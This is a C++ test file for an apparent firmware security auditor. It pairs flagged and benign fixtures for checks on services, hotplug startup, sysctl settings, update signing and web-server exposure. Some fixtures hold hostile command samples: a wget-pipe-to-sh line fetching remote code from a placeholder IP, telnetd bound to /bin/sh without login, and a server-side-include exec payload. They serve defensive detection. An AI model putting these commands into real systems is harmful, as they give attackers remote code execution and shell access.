// Pairs of the checks on services, startup, sysctl settings, updates and web servers.
#include "test/checks/pairs.h"

namespace assay::checks::test {
namespace {

Service telnet() {
  return {.name = "telnet",
          .program = "telnetd",
          .resolves_to = at("bin/busybox").artifact,
          .protocol = "tcp",
          .port = 23,
          .port_source = "default of the program",
          .started_by = at("etc/acme/rcS").artifact,
          .started = true,
          .at = at("etc/acme/rcS", "telnetd -l /bin/sh")};
}
Service shell(std::string protocol, Known asks) {
  return with(telnet(), [&](Service& s) {
    s.protocol = std::move(protocol);
    s.gives_shell = true;
    s.asks_for_secret = asks;
  });
}
Case services(std::vector<Service> list, std::optional<Declaration> declaration = {}) {
  return {.facts = {.services = std::move(list)}, .declaration = std::move(declaration)};
}
Declaration declares(std::string name, uint16_t port) {
  Declaration d;
  d.has_services = true;
  d.services.push_back({.name = std::move(name), .protocol = "tcp", .port = port});
  return d;
}

Case backdoor(std::vector<std::string> traits) {
  return {.facts = {.elf = {{.type = "executable",
                             .is_program = true,
                             .traits = std::move(traits),
                             .at = at("usr/sbin/acme-diagd", "ELF")}}}};
}

Case startup(std::string program, std::string arguments) {
  return {.facts = {.startup = {{.mechanism = "hotplug",
                                 .event = "device",
                                 .program = program,
                                 .arguments = arguments,
                                 .command = program + " " + arguments,
                                 .at = at("etc/hotplug.d/acme", program)}}}};
}

Case setting(std::string name, std::string value) {
  return {.facts = {.settings = {{.kind = "sysctl",
                                  .name = std::move(name),
                                  .value = std::move(value),
                                  .at = at("etc/sysctl.conf", "line")}}}};
}

Case page(std::string name, std::string value) {
  return {.facts = {.settings = {{.kind = "web",
                                  .name = std::move(name),
                                  .value = std::move(value),
                                  .at = at("www/state.shtml", "line")}}}};
}

Case property(std::string name, std::string value) {
  return {.facts = {.settings = {{.kind = "property",
                                  .name = std::move(name),
                                  .value = std::move(value),
                                  .at = at("build.prop", "line")}}}};
}

Case update(std::string transport, Known verified) {
  return {.facts = {.update = {{.kind = "flash-write",
                                .value = "mtd write",
                                .transport = std::move(transport),
                                .verified = verified,
                                .at = at("usr/bin/acme-upgrade", "fetch")}}}};
}

WebServer httpd() {
  return {.program = "httpd",
          .root = at("www").artifact,
          .cgi = {at("www/cgi-bin").artifact},
          .at = at("etc/rcS", "httpd")};
}
Case served(std::string interpreter) {
  return {.facts = {
              .web_servers = {httpd()},
              .file_types = {
                  {.type = "script", .interpreter = std::move(interpreter), .at = at("www/cgi-bin/acme.cgi", "#!")}}}};
}
Case below(std::string kind, std::string file) {
  return {
      .facts = {.web_servers = {httpd()}, .leftovers = {{.kind = std::move(kind), .at = at(std::move(file), "left")}}}};
}
Case listing(Known listed) {
  return {.facts = {.web_servers = {with(httpd(), [&](auto& w) { w.directory_listing = listed; })}}};
}
Case route(Known authenticated) {
  return {.facts = {.web_routes = {{.path = "/goform/diag",
                                    .kind = "handler",
                                    .authenticated = authenticated,
                                    .at = at("bin/goahead", "/goform/diag")}}}};
}

}  // namespace

std::vector<Pair> service_pairs() {
  return {
      {"service.adb_open", property("ro.adb.secure", "0"), property("ro.adb.secure", "1")},
      {"service.debug", services({with(telnet(), [](auto& s) { s.name = "gdb"; })}), services({telnet()})},
      {"service.listens_and_starts_shell", backdoor({"listens", "redirects-descriptors", "starts-shell"}),
       backdoor({"checks-password", "listens", "redirects-descriptors", "starts-shell"})},
      {"service.plaintext_remote_access", services({telnet()}),
       services({with(telnet(), [](auto& s) { s.name = "ssh"; })})},
      {"service.port_undeclared", services({telnet()}, declares("telnet", 2323)),
       services({telnet()}, declares("telnet", 23))},
      {"service.present_not_started", services({with(telnet(), [](auto& s) { s.started = false; })}),
       services({telnet()})},
      {"service.shell_without_login_network", services({shell("tcp", Known::kNo)}),
       services({shell("tcp", Known::kYes)})},
      {"service.shell_without_login_serial", services({shell("serial", Known::kNo)}),
       services({shell("serial", Known::kYes)})},
      {"service.undeclared", services({telnet()}, declares("ssh", 22)), services({telnet()}, declares("telnetd", 0))},
      {"startup.remote_script", startup("wget", "-q -O - http://198.51.100.7/x | sh"),
       startup("wget", "-q -O /tmp/list http://198.51.100.7/x")},
      {"startup.removable_media_autorun", startup("sh", "/mnt/usb/acme_autorun.sh"),
       startup("sh", "/etc/acme_autorun.sh")},
      {"sysctl.aslr", setting("kernel.randomize_va_space", "0"), setting("kernel.randomize_va_space", "2")},
      {"sysctl.icmp_broadcast", setting("/proc/sys/net/ipv4/icmp_echo_ignore_broadcasts", "0"),
       setting("/proc/sys/net/ipv4/icmp_echo_ignore_broadcasts", "1")},
      {"sysctl.rp_filter", setting("net/ipv4/conf/all/rp_filter", "0"), setting("net/ipv4/conf/all/rp_filter", "1")},
      {"sysctl.syn_cookies", setting("net.ipv4.tcp_syncookies", "0"), setting("net.ipv4.tcp_syncookies", "1")},
      {"update.plaintext_url", update("http", Known::kNo), update("https", Known::kNo)},
      {"update.unsigned", update("https", Known::kNo), update("https", Known::kYes)},
      {"web.cgi_shell_scripts", served("/bin/sh"), served("/usr/bin/perl")},
      {"web.compiler_in_cgi", below("compiler", "www/cgi-bin/tcc"), below("compiler", "usr/bin/tcc")},
      {"web.default_content", below("sample", "www/docs/sample.html"), below("sample", "usr/share/docs/sample.html")},
      {"web.directory_listing", listing(Known::kYes), listing(Known::kUnknown)},
      {"web.server_side_exec", page("ssi.exec", "<!--#exec cmd=\"ls\""), page("ssi.extension", ".shtml")},
      {"web.unauthenticated_handler", route(Known::kNo), route(Known::kYes)},
  };
}

}  // namespace assay::checks::test
